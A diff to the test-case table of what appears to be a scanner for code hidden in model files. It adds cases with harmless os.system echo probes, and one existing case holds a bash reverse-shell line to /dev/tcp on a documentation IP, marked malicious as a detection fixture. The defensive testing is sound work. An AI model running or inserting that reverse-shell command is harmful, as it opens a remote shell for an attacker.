@@ -41,6 +41,10 @@ CASES = {
     "benign_calls_in_prose": hidden(
         b"\0never call os.system('clear') or os.execute('clear') here\0", Verdict.NOT_SCANNED
     ),
+    "benign_code_in_a_prompt": hidden(
+        b"\0You can run code: `import os; os.system('echo modelsweep-test')`.\0", Verdict.NOT_SCANNED
+    ),
+    "python_behind_a_grave_accent": hidden(b"`import os;os.system('echo modelsweep-test')\n`"),
     "benign_names_of_calls": hidden(b"\0os.system os.execute(x) io.popen() os.system(\0", Verdict.NOT_SCANNED),
     "python_import_as_json": hidden(rb'{"note": "Text.\n\nimport os\n\tos.system(\"echo modelsweep-test\")"}'),
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
